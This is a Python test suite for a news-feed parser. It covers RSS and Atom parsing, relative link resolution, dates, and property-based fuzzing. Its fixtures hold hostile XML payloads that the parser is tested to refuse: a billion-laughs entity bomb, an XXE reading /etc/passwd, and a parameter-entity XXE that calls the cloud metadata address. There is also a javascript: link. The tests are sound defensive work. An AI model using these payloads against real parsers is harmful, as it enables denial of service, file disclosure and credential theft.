"""Feed parsing from fetched bytes: entries, relative links, dates, and clear refusals."""

from __future__ import annotations

from datetime import UTC, datetime
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.web.errors import MalformedFeed, ParseError
from ingest.web.feeds import MAX_FEED_BYTES, ParsedFeed, parse_feed
from tests.stub_server import atom_feed, many_articles_feed

BASE = "https://news.example/feeds/europe.xml"


def rss(items: str, title: str = "Europe desk") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://news.example/</link>{items}</channel></rss>"
    ).encode()


def test_reads_an_rss_feed_of_many_articles() -> None:
    feed = parse_feed(many_articles_feed("http://127.0.0.1:8000", 50), base_url=BASE)
    assert feed.title == "Stub Gazette: Europe"
    assert len(feed.entries) == 50
    first = feed.entries[0]
    assert first.url == "http://127.0.0.1:8000/articles/0.html"
    assert first.guid == "stub-article-0"
    assert first.title.startswith("Poland and Germany")
    assert first.published == datetime(2025, 9, 1, 8, 0, tzinfo=UTC)


def test_resolves_relative_atom_links_against_the_feed_url() -> None:
    feed = parse_feed(atom_feed(), base_url="http://127.0.0.1:8000/feeds/atom.xml")
    assert [entry.url for entry in feed.entries][:2] == [
        "http://127.0.0.1:8000/articles/0.html",
        "http://127.0.0.1:8000/articles/1.html",
    ]
    assert feed.entries[0].guid == "urn:stub:atom:0"


def test_skips_entries_without_an_http_link() -> None:
    feed = parse_feed(
        rss(
            "<item><title>No link</title></item>"
            "<item><title>Mail</title><link>mailto:desk@news.example</link></item>"
            "<item><title>Script</title><link>javascript:alert(1)</link></item>"
            "<item><title>Good</title><link>/europe/pledge</link>"
            '<guid isPermaLink="false">g1</guid></item>'
        ),
        base_url=BASE,
    )
    assert [(e.title, e.url, e.guid) for e in feed.entries] == [
        ("Good", "https://news.example/europe/pledge", "g1")
    ]


def test_a_valid_feed_without_items_is_empty_not_an_error() -> None:
    assert parse_feed(rss(""), base_url=BASE).entries == ()


def test_tolerates_a_sloppy_feed_that_still_has_entries() -> None:
    sloppy = rss("<item><title>Troops & tanks</title><link>https://news.example/a</link></item>")
    assert [e.title for e in parse_feed(sloppy, base_url=BASE).entries] == ["Troops & tanks"]


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
        (b"Just some words, not a feed.", "not XML"),
        (b"<?xml version='1.0'?><rss><channel><title>Broken</titl", "no entries"),
        (b"<html><body><h1>Our news</h1><p>Welcome</p></body></html>", "not an RSS"),
        (b"<" + b"a" * MAX_FEED_BYTES, "larger"),
    ],
)
def test_refuses_what_is_no_feed(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedFeed, match=reason):
        parse_feed(body, base_url=BASE)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title>
<item><title>x</title><link>https://news.example/a</link></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&secret;</title>
<item><title>x</title><link>https://news.example/a</link></item></channel></rss>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, XXE, PARAMETER_XXE, XXE.decode().encode("utf-16")]
)
def test_refuses_entity_declarations(body: bytes) -> None:
    with pytest.raises(MalformedFeed, match="entities"):
        parse_feed(body, base_url=BASE)


def test_accepts_a_plain_doctype() -> None:
    rss091 = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
        b"<title>Old</title><item><title>t</title><link>https://news.example/a</link></item>"
        b"</channel></rss>"
    )
    assert len(parse_feed(rss091, base_url=BASE).entries) == 1


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=4096))
def test_random_bytes_give_a_feed_or_our_error(body: bytes) -> None:
    try:
        result = parse_feed(body, base_url=BASE)
    except ParseError:
        return
    assert isinstance(result, ParsedFeed)


# Characters XML 1.0 allows: no surrogates, controls or non-characters (U+FFFE, U+FFFF).
_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cn")), max_size=60)
_links = st.one_of(
    st.builds(lambda path: f"https://news.example/{path}", st.text("abc/-_.%?=&", max_size=20)),
    st.builds(lambda path: f"/{path}", st.text("abc/-_.", max_size=20)),
    _text,
)
_dates = st.one_of(
    st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2100, 1, 1)).map(
        lambda moment: moment.strftime("%a, %d %b %Y %H:%M:%S +0000")
    ),
    _text,
)


@st.composite
def rss_or_atom(draw: st.DrawFn) -> bytes:
    items = draw(st.lists(st.tuples(_text, _links, _text, _dates), max_size=8))
    title = escape(draw(_text))
    if draw(st.booleans()):
        body = "".join(
            f"<item><title>{escape(t)}</title><link>{escape(link)}</link>"
            f"<guid>{escape(guid)}</guid><pubDate>{escape(date)}</pubDate></item>"
            for t, link, guid, date in items
        )
        return rss(body, title)
    entries = "".join(
        f"<entry><title>{escape(t)}</title><link href={quoteattr(link)}/>"
        f"<id>{escape(guid)}</id><updated>{escape(date)}</updated></entry>"
        for t, link, guid, date in items
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>{title}</title>{entries}</feed>"
    ).encode()


@settings(max_examples=200, deadline=None)
@given(rss_or_atom())
def test_random_valid_feeds_parse_to_http_entries(body: bytes) -> None:
    feed = parse_feed(body, base_url=BASE)
    for entry in feed.entries:
        assert entry.url.startswith(("http://", "https://"))
        assert entry.published is None or entry.published.tzinfo is not None
